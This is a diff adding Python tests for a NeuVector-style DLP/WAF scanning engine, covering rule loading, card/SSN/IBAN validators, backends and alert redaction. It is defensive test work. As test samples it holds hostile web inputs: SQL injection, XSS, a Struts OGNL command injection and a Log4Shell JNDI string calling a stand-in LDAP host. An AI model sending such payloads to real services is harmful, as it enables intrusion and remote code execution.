@@ -1,0 +1,576 @@
+"""DLP/WAF rules: NeuVector sensor loading, validators, and the scanning engine on both backends."""
+from __future__ import annotations
+
+import dataclasses
+import functools
+import json
+import random
+
+import pytest
+
+from nvpcap.rules import RuleEngine, RuleIds, load_bundled, load_text
+from nvpcap.rules import engine as engine_mod
+from nvpcap.rules.backends import WINDOW
+from nvpcap.rules.model import Pattern, Rule
+from nvpcap.rules.redact import SNIPPET_MAX
+from nvpcap.rules.regex import compile_python, pcre_to_python
+from nvpcap.rules.validators import entropy, iban, luhn, shannon_entropy, ssn
+
+try:
+    import hyperscan
+    BACKENDS = ["hyperscan", "python"]
+except ImportError:  # pragma: no cover
+    BACKENDS = ["python"]
+
+CLIENT, SERVER = 0, 1
+VISA = b"4532015112830366"  # Luhn-valid and accepted by NeuVector's rule.visa (no repeated/sequential groups)
+VISA_BAD = b"4532015112830367"  # same shape, Luhn digit wrong
+AMEX = b"378282246310005"
+
+
+def crd(kind: str, name: str, rules: list[dict]) -> str:
+    return json.dumps({"apiVersion": "neuvector.com/v1", "kind": kind, "metadata": {"name": name},
+                       "spec": {"sensor": {"name": name, "comment": f"{name} comment", "rules": rules}}})
+
+
+def pat(value: str, op: str = "regex", context: str | None = None) -> dict:
+    p = {"key": "pattern", "op": op, "value": value}
+    if context:
+        p["context"] = context
+    return p
+
+
+def rules_from(yaml_text: str) -> list[Rule]:
+    res = load_text(yaml_text, "test.yaml")
+    assert res.problems == []
+    return res.rules
+
+
+def one_rule(*patterns: dict, validator: str | None = None, category: str = "dlp", **extra: object) -> list[Rule]:
+    rule: dict = {"name": "rule.t", "patterns": list(patterns), **extra}
+    if validator:
+        rule["validator"] = validator
+    kind = "NvDlpSecurityRule" if category == "dlp" else "NvWafSecurityRule"
+    return rules_from(crd(kind, "sensor.t", [rule]))
+
+
+CARD_RULES = one_rule(pat(r"\b(?:\d[ -]?){12,18}\d\b"), validator="luhn")
+
+
+@functools.lru_cache(maxsize=32)
+def engine_for(rules: tuple[Rule, ...], backend: str) -> RuleEngine:
+    eng = RuleEngine(rules, backend=backend)
+    assert eng.problems == []
+    return eng
+
+
+def run(rules: list[Rule], calls: list[tuple], backend: str = "hyperscan") -> list:
+    """Scan the calls (context, side, data[, frame]) through one flow; frames default to 1, 2, ..."""
+    fs = engine_for(tuple(rules), backend).flow_scanner("flow")
+    for i, call in enumerate(calls, 1):
+        ctx, side, data = call[:3]
+        frame = call[3] if len(call) > 3 else i
+        fs.scan(ctx, side, data, frame, frame * 1000)
+    fs.close()
+    return fs.alerts
+
+
+def summary(alerts: list) -> list[tuple]:
+    return sorted((m.rule.rule_id, m.context, m.side, m.frame, m.snippet) for m in alerts)
+
+
+@pytest.fixture(scope="module")
+def bundled() -> list[Rule]:
+    res = load_bundled()
+    assert res.problems == []
+    return res.rules
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def bundled_engine(request: pytest.FixtureRequest, bundled: list[Rule]) -> RuleEngine:
+    eng = RuleEngine(bundled, backend=request.param)
+    assert eng.problems == []
+    return eng
+
+
+# ---------------------------------------------------------------- loader
+
+CRD_YAML = """
+apiVersion: neuvector.com/v1
+kind: NvDlpSecurityRule
+metadata:
+  name: sensor.custom
+spec:
+  sensor:
+    name: sensor.custom
+    comment: customer data
+    rules:
+    - name: rule.customer_id
+      patterns:
+      - key: pattern
+        op: regex
+        value: 'CUST-\\d{8}'
+    - name: rule.card_not_test
+      validator: luhn
+      severity: high
+      direction: response
+      patterns:
+      - {key: pattern, op: regex, value: '\\b\\d{16}\\b', context: packet}
+      - {key: pattern, op: '!regex', value: 'test', context: body}
+---
+apiVersion: neuvector.com/v1
+kind: NvWafSecurityRule
+metadata:
+  name: sensor.waf
+spec:
+  sensor:
+    name: sensor.waf
+    rules:
+    - name: rule.admin
+      patterns:
+      - {key: pattern, op: regex, value: '/admin', context: url}
+"""
+
+
+def test_crd_yaml() -> None:
+    res = load_text(CRD_YAML, "crd.yaml")
+    assert res.problems == []
+    by = {r.name: r for r in res.rules}
+    cid, card, admin = by["rule.customer_id"], by["rule.card_not_test"], by["rule.admin"]
+    assert (cid.rule_id, card.rule_id, admin.rule_id) == (20000, 20001, 40000)
+    assert cid.category == "dlp" and admin.category == "waf"
+    assert cid.patterns == (Pattern(r"CUST-\d{8}", False, "body"),)  # NeuVector's default context
+    assert card.patterns[1] == Pattern("test", True, "body")
+    assert (card.validator, card.severity, card.direction) == ("luhn", 4, "response")
+    assert cid.severity == 3 and cid.description == "customer data" and cid.sensor == "sensor.custom"
+    assert cid.source == "crd.yaml:sensor.custom"
+
+
+def test_rest_json_forms() -> None:
+    sensor = {"name": "sensor.j", "comment": "", "rules": [
+        {"name": "r1", "id": 20005, "patterns": [pat("abc", context="url")]},
+        {"name": "r2", "patterns": [pat("def")]}]}
+    res = load_text(json.dumps({"sensors": [sensor]}), "export.json")
+    assert res.problems == []
+    assert [(r.name, r.rule_id, r.category) for r in res.rules] == [("r1", 20005, "dlp"), ("r2", 20000, "dlp")]
+    res = load_text(json.dumps(sensor), "one.json", category="waf")
+    assert [r.rule_id for r in res.rules] == [40000, 40001]  # 20005 is outside the WAF range: reassigned
+    res = load_text(json.dumps({"sensor": sensor}), "get.json")
+    assert len(res.rules) == 2
+    listed = {"apiVersion": "v1", "kind": "List", "items": [json.loads(crd("NvWafSecurityRule", "s", sensor["rules"]))]}
+    res = load_text(json.dumps(listed), "list.json")
+    assert [r.category for r in res.rules] == ["waf", "waf"]
+
+
+def test_ids_are_shared_and_deterministic() -> None:
+    ids = RuleIds()
+    a = load_text(CRD_YAML, "a.yaml", ids)
+    b = load_text(CRD_YAML, "b.yaml", ids)
+    assert [r.rule_id for r in a.rules] == [20000, 20001, 40000]
+    assert [r.rule_id for r in b.rules] == [20002, 20003, 40001]
+    assert [r.rule_id for r in load_text(CRD_YAML, "a.yaml").rules] == [20000, 20001, 40000]
+
+
+def test_bad_regex_is_reported_and_other_rules_load() -> None:
+    text = crd("NvDlpSecurityRule", "sensor.bad", [
+        {"name": "rule.broken", "patterns": [pat("(unclosed")]},
+        {"name": "rule.fine", "patterns": [pat("fine")]}])
+    res = load_text(text, "bad.yaml")
+    assert [r.name for r in res.rules] == ["rule.fine"]
+    assert len(res.problems) == 1
+    problem = res.problems[0]
+    assert "bad.yaml" in problem and "rule.broken" in problem and "invalid regex" in problem
+
+
+def test_too_many_patterns_is_reported() -> None:
+    text = crd("NvDlpSecurityRule", "s", [{"name": "rule.big", "patterns": [pat(f"p{i}") for i in range(17)]},
+                                          {"name": "rule.max", "patterns": [pat(f"p{i}") for i in range(16)]}])
+    res = load_text(text, "big.yaml")
+    assert [r.name for r in res.rules] == ["rule.max"]
+    assert len(res.problems) == 1 and "rule.big" in res.problems[0] and "17 patterns" in res.problems[0]
+
+
+def test_all_negated_is_reported() -> None:
+    text = crd("NvDlpSecurityRule", "s", [{"name": "rule.neg", "patterns": [pat("a", "!regex"), pat("b", "!regex")]}])
+    res = load_text(text, "neg.yaml")
+    assert res.rules == [] and "rule.neg" in res.problems[0] and "negated" in res.problems[0]
+
+
+@pytest.mark.parametrize("rule, reason", [
+    ({"name": "r", "patterns": [{"key": "pattern", "op": "contains", "value": "x"}]}, "op"),
+    ({"name": "r", "patterns": [pat("x", context="cookie")]}, "context"),
+    ({"name": "r", "validator": "crc", "patterns": [pat("x")]}, "validator"),
+    ({"name": "r", "severity": 9, "patterns": [pat("x")]}, "severity"),
+    ({"name": "r", "patterns": []}, "no patterns"),
+    ({"name": "r", "patterns": [{"key": "size", "op": "regex", "value": "x"}]}, "key"),
+    ({"patterns": [pat("x")]}, "no name"),
+])
+def test_unusable_rules_are_reported(rule: dict, reason: str) -> None:
+    res = load_text(crd("NvDlpSecurityRule", "s", [rule]), "u.yaml")
+    assert res.rules == [] and len(res.problems) == 1 and reason in res.problems[0]
+
+
+def test_bad_documents_are_reported() -> None:
+    assert "not valid YAML/JSON" in load_text("a: [", "x.yaml").problems[0]
+    assert "not a DLP/WAF sensor" in load_text("kind: NvSecurityRule\nspec: {}\n", "x.yaml").problems[0]
+    assert "no spec.sensor" in load_text("kind: NvDlpSecurityRule\nmetadata: {name: x}\n", "x.yaml").problems[0]
+
+
+def test_bundled_packs(bundled: list[Rule]) -> None:
+    ids = [r.rule_id for r in bundled]
+    assert len(ids) == len(set(ids))
+    dlp = [r for r in bundled if r.category == "dlp"]
+    waf = [r for r in bundled if r.category == "waf"]
+    assert all(30000 <= r.rule_id < 40000 for r in dlp) and all(49000 <= r.rule_id < 50000 for r in waf)
+    names = {r.name: r for r in bundled}
+    for name in ("rule.visa", "rule.master", "rule.americanexpress", "rule.discover", "rule.diner1", "rule.diner2",
+                 "rule.jcb"):
+        assert names[name].validator == "luhn"
+    assert names["rule.ssn"].validator == "ssn" and names["rule.ssn"].patterns[0].context == "body"
+    assert all(r.direction == "request" for r in waf)
+    eng = RuleEngine(bundled)
+    assert eng.problems == [] and len(eng.rules) == len(bundled)
+
+
+def test_pcre_spellings_for_python() -> None:
+    assert pcre_to_python(r"(?<user>\w+)@\k<user>\z") == r"(?P<user>\w+)@(?P=user)\Z"
+    assert pcre_to_python(r"(?<=a)(?<!b)[(?<x>]\h") == r"(?<=a)(?<!b)[(?<x>][ \t]"
+    assert pcre_to_python(r"(a)\g{1}") == r"(a)(?:\1)"
+    assert compile_python(r"(?<n>ab)\k{n}").search(b"xABab") is not None  # caseless, as NeuVector's /is
+
+
+# ---------------------------------------------------------------- validators
+
+@pytest.mark.parametrize("number", ["4111111111111111", "4111 1111 1111 1111", "4111-1111-1111-1111", "378282246310005",
+                                    "5555555555554444", "6011111111111117", "30569309025904", "3530111333300000",
+                                    "4222222222222", "6304000000000000000"])
+def test_luhn_valid(number: str) -> None:
+    assert luhn(number)
+
+
+@pytest.mark.parametrize("number", ["4111111111111112", "1234567812345678", "411111111111", "41111111111111111111",
+                                    "4111x111111111111", "", "４１１１１１１１１１１１１１１１"])
+def test_luhn_invalid(number: str) -> None:
+    assert not luhn(number)
+
+
+def test_ssn() -> None:
+    for good in ("123-45-6789", "123456789", "123 45 6789", "078-05-1120", "665-01-0001", "899-99-9999"):
+        assert ssn(good), good
+    for bad in ("000-12-3456", "666-12-3456", "900-12-3456", "999-12-3456", "123-00-4567", "123-45-0000",
+                "12-345-6789", "1234-56-789", "abc-de-fghi"):
+        assert not ssn(bad), bad
+
+
+def test_iban() -> None:
+    for good in ("GB82WEST12345698765432", "GB82 WEST 1234 5698 7654 32", "DE89370400440532013000",
+                 "FR1420041010050500013M02606", "NL91ABNA0417164300", "gb82west12345698765432"):
+        assert iban(good), good
+    for bad in ("GB82WEST12345698765433", "GB82WEST1234569876543", "DE89370400440532013001", "XX82WEST12345698765432",
+                "GB82-WEST-1234", ""):
+        assert not iban(bad), bad
+
+
+def test_entropy() -> None:
+    assert shannon_entropy("aaaa") == 0 and shannon_entropy("ab") == 1.0
+    assert entropy("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+    assert entropy('aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"')
+    assert not entropy("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
+    assert not entropy("Ab3$")  # too short to judge
+    assert not entropy("abababababababababababab")
+
+
+# ---------------------------------------------------------------- engine
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_card_split_across_calls(backend: str) -> None:
+    alerts = run(CARD_RULES, [("body", SERVER, b"payment: 4532 0151 12"), ("body", SERVER, b"83 0366 ok")], backend)
+    assert len(alerts) == 1
+    m = alerts[0]
+    assert (m.context, m.side, m.frame, m.ts_ns) == ("body", SERVER, 2, 2000)
+    assert m.snippet == "**** **** **** 0366"
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_luhn_invalid_is_not_reported(backend: str) -> None:
+    assert run(CARD_RULES, [("body", CLIENT, b"card=" + VISA_BAD + b";")], backend) == []
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_invalid_card_does_not_hide_valid_one(backend: str) -> None:
+    same_call = run(CARD_RULES, [("body", CLIENT, b"a " + VISA_BAD + b" b " + VISA + b" c")], backend)
+    assert [m.snippet for m in same_call] == ["************0366"]
+    later_call = run(CARD_RULES, [("body", CLIENT, b"a " + VISA_BAD + b" b"), ("body", CLIENT, b"c " + AMEX + b" d")],
+                     backend)
+    assert [(m.frame, m.snippet) for m in later_call] == [(2, "***********0005")]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_bundled_cards_and_ssn(backend: str, bundled: list[Rule]) -> None:
+    alerts = run(bundled, [("body", SERVER, b'{"card": "4532-0151-1283-0366", "ssn": "536-22-1234"}')], backend)
+    assert sorted((m.rule.name, m.snippet) for m in alerts) == [
+        ("rule.ssn", "***-**-1234"), ("rule.visa", "****-****-****-0366")]
+    # NeuVector's card rules skip test numbers made of repeated groups; its ssn rule skips published examples
+    assert run(bundled, [("body", SERVER, b"4111 1111 1111 1111 and 078-05-1120")], backend) == []
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_waf_url_sqli_and_xss(backend: str, bundled: list[Rule]) -> None:
+    alerts = run(bundled, [("url", CLIENT, b"/login?user=admin' OR '1'='1&next=<script>alert(1)</script>")], backend)
+    names = {m.rule.name for m in alerts}
+    assert {"sqli.tautology", "xss.script_tag"} <= names
+    snippet = next(m.snippet for m in alerts if m.rule.name == "sqli.tautology")
+    assert snippet == "' OR '1'='1"
+    assert run(bundled, [("url", CLIENT, b"/items?id=5 UNION SELECT password FROM users")], backend)[0].rule.name \
+        == "sqli.union_select"
+    # direction: request. The same text from the server side is not an attack on it
+    assert run(bundled, [("url", SERVER, b"/login?user=admin' OR '1'='1")], backend) == []
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_waf_header_attacks(backend: str, bundled: list[Rule]) -> None:
+    header = (b"Host: shop\r\nContent-Type: %{(#_='multipart/form-data').(#cmd='id')}\r\n"
+              b"User-Agent: ${${lower:j}${::-n}di:ldap://203.0.113.9/a}\r\n")
+    names = {m.rule.name for m in run(bundled, [("header", CLIENT, header)], backend)}
+    assert names == {"struts.ognl_content_type", "log4shell.jndi"}
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_negated_pattern_suppresses(backend: str) -> None:
+    rules = one_rule(pat(r"password\s*=\s*\w+"), pat(r"example\.com", "!regex"))
+    assert run(rules, [("body", CLIENT, b"user=a@example.com&password=hunter2")], backend) == []
+    assert run(rules, [("body", CLIENT, b"host example.com"), ("body", CLIENT, b"password=hunter2")], backend) == []
+    assert len(run(rules, [("body", CLIENT, b"user=a@corp.test&password=hunter2")], backend)) == 1
+    # the flow's AND: a negated pattern seen only after the rule fired does not withdraw the alert
+    assert len(run(rules, [("body", CLIENT, b"password=hunter2"), ("body", CLIENT, b"example.com")], backend)) == 1
+    # the negated pattern names the body context: the same text in a url does not suppress
+    assert len(run(rules, [("url", CLIENT, b"/example.com"), ("body", CLIENT, b"password=hunter2")], backend)) == 1
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_patterns_across_contexts_and_sides(backend: str) -> None:
+    rules = one_rule(pat("/api/export", context="url"), pat(r"CUST-\d{6}", context="body"))
+    calls = [("url", CLIENT, b"/api/export?all=1"), ("body", SERVER, b"[CUST-123456]")]
+    alerts = run(rules, calls, backend)
+    assert [(m.context, m.side, m.frame, m.snippet) for m in alerts] == [("body", SERVER, 2, "/api/******")]
+    assert run(rules, calls[:1], backend) == [] and run(rules, calls[1:], backend) == []
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_packet_context_scans_everywhere(backend: str) -> None:
+    rules = one_rule(pat("topsecret", context="packet"))
+    for ctx in ("url", "header", "body", "sql", "raw"):
+        assert [m.context for m in run(rules, [(ctx, CLIENT, b"a topsecret b")], backend)] == [ctx]
+
+
+def test_prefilter_pattern_is_confirmed() -> None:
+    rules = one_rule(pat(r"\b(\w{3})-\1\b"))  # a back-reference: Hyperscan can only prefilter it
+    eng = RuleEngine(rules, backend=BACKENDS[0])
+    assert eng.patterns[0].prefilter == (BACKENDS[0] == "hyperscan")
+    for backend in BACKENDS:
+        assert run(rules, [("body", CLIENT, b"x abc-abd y")], backend) == []
+        assert [m.snippet for m in run(rules, [("body", CLIENT, b"x abc-abd abc-abc")], backend)] == ["abc-***"]
+        split = run(rules, [("body", CLIENT, b"x xyz-x"), ("body", CLIENT, b"yz !")], backend)
+        assert [m.frame for m in split] == [2]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_lookahead_at_the_end_of_a_call(backend: str) -> None:
+    """A prefiltered pattern (look-ahead) whose match ends on a call's last byte: decided by the next call or
+    by the end of the stream, even when the next bytes give Hyperscan nothing to report."""
+    rules = one_rule(pat(r"\bid-\d+(?![\d-])"), category="waf")
+    assert [(m.frame, m.snippet) for m in run(rules, [("body", CLIENT, b"x id-42"), ("body", CLIENT, b" y")],
+                                             backend)] == [(1, "id-42")]
+    assert [m.frame for m in run(rules, [("body", CLIENT, b"x id-42")], backend)] == [1]
+    assert run(rules, [("body", CLIENT, b"x id-4"), ("body", CLIENT, b"2-")], backend) == []
+    assert [m.snippet for m in run(rules, [("body", CLIENT, b"x id-4"), ("body", CLIENT, b"2 ")], backend)] == ["id-42"]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_frame_of_the_chunk_where_the_match_ends(backend: str) -> None:
+    rules = one_rule(pat(r"secret-\d{4}"), category="waf")
+    calls = [("body", CLIENT, b"a" * 100, 7), ("body", CLIENT, b"x secret-12", 9), ("body", CLIENT, b"34 y", 12)]
+    assert [(m.frame, m.ts_ns) for m in run(rules, calls, backend)] == [(12, 12000)]
+    # a match that ends on a call's last byte but needs the next byte to know a \b holds
+    rules = one_rule(pat(r"\bkey-\d+\b"), category="waf")
+    alerts = run(rules, [("body", CLIENT, b"the key-42", 3), ("body", CLIENT, b" and more", 4)], backend)
+    assert [(m.frame, m.snippet) for m in alerts] == [(3, "key-42")]
+    # ... or the end of the stream (found at close)
+    assert [m.frame for m in run(rules, [("body", CLIENT, b"the key-42", 5)], backend)] == [5]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_deduplication(backend: str) -> None:
+    calls = [("body", SERVER, b"card " + VISA + b" "), ("body", SERVER, b" again " + AMEX + b" "),
+             ("body", CLIENT, VISA + b" from the client"), ("raw", CLIENT, b" " + VISA + b" ")]
+    alerts = run(CARD_RULES, calls, backend)
+    assert len(alerts) == 1 and alerts[0].frame == 1 and alerts[0].count == 4
+    rules = one_rule(pat("/admin", context="url"), category="waf")
+    alerts = run(rules, [("url", CLIENT, b"/admin/a"), ("url", CLIENT, b"/admin/b"), ("url", CLIENT, b"/home")],
+                 backend)
+    assert len(alerts) == 1 and alerts[0].count == 2
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_snippet_redaction(backend: str, bundled: list[Rule]) -> None:
+    key = b"AKIA" + b"Z7Q2" * 4
+    alerts = run(bundled, [("body", CLIENT, b"aws_access_key_id=" + key + b"\n")], backend)
+    assert [(m.rule.name, m.snippet) for m in alerts] == [("secret.aws_access_key_id", "AKIA" + "*" * 16)]
+    long_attack = b"/x?q=<script>" + b"A" * 300
+    rules = one_rule(pat(r"<script>A+", context="url"), category="waf")
+    snippet = run(rules, [("url", CLIENT, long_attack)], backend)[0].snippet
+    assert len(snippet) == SNIPPET_MAX and snippet.startswith("<script>AAA") and snippet.endswith("...")
+    rules = one_rule(pat(r"evil\r\n\x00\\", context="header"), category="waf")
+    assert run(rules, [("header", CLIENT, b"X: evil\r\n\x00\\")], backend)[0].snippet == "evil\\r\\n\\x00\\\\"
+
+
+def test_hyperscan_and_fallback_agree(bundled: list[Rule]) -> None:
+    """Random flows of look-alikes and real hits, cut at random points: both backends raise the same alerts
+    (rule, context, side, frame, snippet)."""
+    if len(BACKENDS) < 2:
+        pytest.skip("hyperscan is not installed")
+
+    def extra(rule_id: int, *patterns: dict, category: str = "dlp") -> Rule:
+        return dataclasses.replace(one_rule(*patterns, category=category)[0], rule_id=rule_id, name=f"r{rule_id}")
+
+    rules = bundled + CARD_RULES + [
+        extra(21000, pat(r"password\s*=\s*\w+"), pat(r"example\.com", "!regex")),
+        extra(21001, pat(r"\b(\w{3})-\1\b")),
+        extra(21002, pat("/export", context="url"), pat(r"CUST-\d{4,8}", context="body")),
+        extra(21003, pat(r"<x>A+</x>"), category="waf")]
+    words = [b"the", b"order", b"4532", b"0151", b"1283", b"0366", VISA, VISA_BAD, AMEX, b"536-22-1234", b"536221234",
+             b"password = hunter2", b"example.com", b"abc-abc", b"abc-abd", b"CUST-12345", b"<x>AAAAAAAAAAAA</x>", b"12",
+             b"ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", b"-----BEGIN RSA PRIVATE KEY-----", b"\n", b"94105-1234",
+             b"AKIAZ7Q2Z7Q2Z7Q2Z7Q2", b"4532015112830366 12",
+             b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"]
+    urls = [b"/a?q=1' or 'x'='x", b"/ok", b"/p?f=../../etc/passwd", b"/export?x=1", b"/q?<script>alert(1)</script>"]
+    rng = random.Random(7)
+    alerts = 0
+    for _ in range(150):
+        body = b" ".join(rng.choice(words) for _ in range(rng.randint(3, 120)))
+        cuts = sorted(rng.sample(range(1, len(body)), k=min(rng.randint(0, 10), len(body) - 1)))
+        ctx = rng.choice(["body", "raw", "sql"])
+        calls = [(ctx, rng.choice((CLIENT, SERVER)), body[a:b]) for a, b in zip([0, *cuts], [*cuts, len(body)])]
+        calls.insert(rng.randint(0, len(calls)), ("url", CLIENT, rng.choice(urls)))
+        hs = summary(run(rules, calls, "hyperscan"))
+        assert hs == summary(run(rules, calls, "python")), calls
+        alerts += len(hs)
+    assert alerts > 500  # the inputs do exercise the rules
+
+
+CLEAN_URLS = [
+    b"/", b"/index.html", b"/search?q=how to sleep better&hl=en&source=hp",
+    b"/api/v1/users/550e8400-e29b-41d4-a716-446655440000/orders?limit=50&offset=100&sort=-created_at",
+    b"/collect?v=1&t=pageview&dl=https://example.com/a/b?c=d&dt=Home | Example&sr=1920x1080&cid=1719337216.1700000000",
+    b"/recaptcha/api.js?onload=onloadCallback&render=explicit", b"/wiki/Rock_and_Roll_(disambiguation)",
+    b"/products;jsessionid=A1B2C3D4E5F6?cat=shoes&size=10&color=black|white", b"/docs/select-union-types.html",
+    b"/blog/2024/01/15/javascript-the-good-parts/", b"/search?q=it's a 'test' or not&page=2",
+    b"/api/graphql?query={user(id:\"1\"){name,email}}", b"/a?redirect=/account/settings&lang=de-DE",
+]
+CLEAN_HEADERS = [
+    (b"Host: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
+     b"Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nCookie: _ga=GA1.2."
+     b"1719337216.1700000000; session=eyJ1c2VyIjoxMjN9.ZXhhbXBsZQ.c2lnbmF0dXJl\r\nConnection: keep-alive\r\n"),
+    b"Content-Type: application/json; charset=utf-8\r\nETag: W/\"15c-8b2f\"\r\nDate: Mon, 15 Jan 2024 10:00:00 GMT\r\n",
+    b"Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n",
+]
+CLEAN_BODIES = [
+    (b'{"id": 1042, "uuid": "550e8400-e29b-41d4-a716-446655440000", "name": "Alice", "phone": "+1 (555) 123-4567", '
+     b'"created_at": "2024-01-15T10:00:00.123Z", "ts": 1705312800123, "price": 1999.99, "sku": "AB-1234-XY", '
+     b'"isbn": "978-3-16-148410-0", "zip": "94105-1234", "md5": "d41d8cd98f00b204e9800998ecf8427e"}'),
+    (b"<!DOCTYPE html><html><head><script src=\"/static/app.js\"></script><script>document.cookie = \"seen=1\";"
+     b"if (a || b) { x = y; }</script></head><body onload=\"init()\"><a href=\"javascript:void(0)\" onclick=\"t()\">"
+     b"Menu</a><p>Call 555-123-4567. Order #12345678.</p><p>Union members: select \"union\" at checkout.</p>"
+     b"<img src=\"/a.png\" onerror=\"this.remove()\"></body></html>"),
+    b"SELECT id, name FROM users WHERE id = 42 UNION SELECT id, name FROM admins; -- report",
+]
+
+
+def test_clean_traffic_raises_nothing(bundled_engine: RuleEngine) -> None:
+    for side in (CLIENT, SERVER):
+        calls = [("url", side, u) for u in CLEAN_URLS] + [("header", side, h) for h in CLEAN_HEADERS]
+        calls += [(ctx, side, b) for b in CLEAN_BODIES for ctx in ("body", "raw", "sql")]
+        for ctx, sd, data in calls:
+            fs = bundled_engine.flow_scanner()
+            fs.scan(ctx, sd, data, 1, 0)
+            fs.close()
+            assert fs.alerts == [], (ctx, data, [m.rule.name for m in fs.alerts])
+
+
+def test_hostile_input_stays_bounded(bundled_engine: RuleEngine) -> None:
+    rng = random.Random(1)
+    fs = bundled_engine.flow_scanner()
+    digits = b"".join(rng.choice(b"0123456789").to_bytes(1, "big") for _ in range(100_000))
+    fs.scan("body", CLIENT, digits, 1, 0)  # one big call
+    for i in range(0, len(digits), 1460):  # and as segments
+        fs.scan("raw", CLIENT, digits[i : i + 1460], 2 + i, 0)
+    spaced = b" ".join(digits[i : i + 4] for i in range(0, 20_000, 4))  # groups that look like cards
+    fs.scan("body", SERVER, spaced, 3, 0)
+    noise = rng.randbytes(1 << 20)
+    for i in range(0, len(noise), 4096):
+        fs.scan("body", CLIENT, noise[i : i + 4096], 100 + i, 0)
+        assert fs.buffered_bytes() <= 3 * WINDOW
+        assert fs.history_len() <= engine_mod.CHUNK_HISTORY
+    fs.close()
+    assert fs.buffered_bytes() == 0
+    assert len(fs.alerts) <= len(bundled_engine.rules)
+
+
+def test_engine_reports_unusable_rules() -> None:
+    rules = [
+        Rule(1, "all.negated", "dlp", 3, (Pattern("a", True, "body"),)),
+        Rule(2, "empty.match", "waf", 3, (Pattern("a*", False, "body"),)),
+        Rule(3, "bad.context", "waf", 3, (Pattern("a", False, "cookie"),)),
+        Rule(4, "fine", "waf", 3, (Pattern("fine", False, "body"),)),
+    ]
+    for backend in BACKENDS:
+        eng = RuleEngine(rules, backend=backend)
+        assert [r.name for r in eng.rules] == ["fine"]
+        assert len(eng.problems) == 3
+        assert all(name in p for name, p in zip(("all.negated", "empty.match", "bad.context"), eng.problems))
+
+
+def test_fallback_when_hyperscan_is_missing(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(engine_mod, "hyperscan", None)
+    eng = RuleEngine(CARD_RULES)
+    assert eng.backend.name == "python" and eng.warning and "hyperscan" in eng.warning
+    with pytest.raises(RuntimeError):
+        RuleEngine(CARD_RULES, backend="hyperscan")
+    fs = eng.flow_scanner()
+    fs.scan("body", CLIENT, b"x " + VISA + b" y", 1, 0)
+    fs.close()
+    assert len(fs.alerts) == 1
+
+
+def test_fallback_when_hyperscan_fails(monkeypatch: pytest.MonkeyPatch) -> None:
+    if "hyperscan" not in BACKENDS:
+        pytest.skip("hyperscan is not installed")
+
+    def failing(dbs: object) -> None:
+        raise hyperscan.error("out of memory")
+
+    monkeypatch.setattr(engine_mod, "HyperscanBackend", failing)
+    eng = RuleEngine(CARD_RULES)
+    assert eng.backend.name == "python" and "out of memory" in (eng.warning or "")
+    assert len(eng.problems) == 1 and len(eng.rules) == 1
+    with pytest.raises(hyperscan.error):
+        RuleEngine(CARD_RULES, backend="hyperscan")
+
+
+def test_scanner_lifecycle() -> None:
+    eng = RuleEngine(CARD_RULES)
+    with eng.flow_scanner("k") as fs:
+        with pytest.raises(ValueError):
+            fs.scan("cookie", CLIENT, b"x", 1, 0)
+        fs.scan("body", CLIENT, b"", 1, 0)
+        fs.scan("body", CLIENT, VISA[:8], 1, 0)
+    fs.close()  # twice is harmless
+    fs.scan("body", CLIENT, VISA[8:] + b" ", 2, 0)  # after close: ignored
+    assert fs.alerts == [] and fs.flow_key == "k"
+    dropped = eng.flow_scanner()
+    dropped.scan("body", CLIENT, b"x " + VISA, 1, 0)  # a match waiting for the next byte or the end
+    del dropped  # never closed: its stream is freed without reporting into another scanner
+    other = eng.flow_scanner()
+    other.scan("body", CLIENT, b"nothing here", 1, 0)
+    other.close()
+    assert other.alerts == []
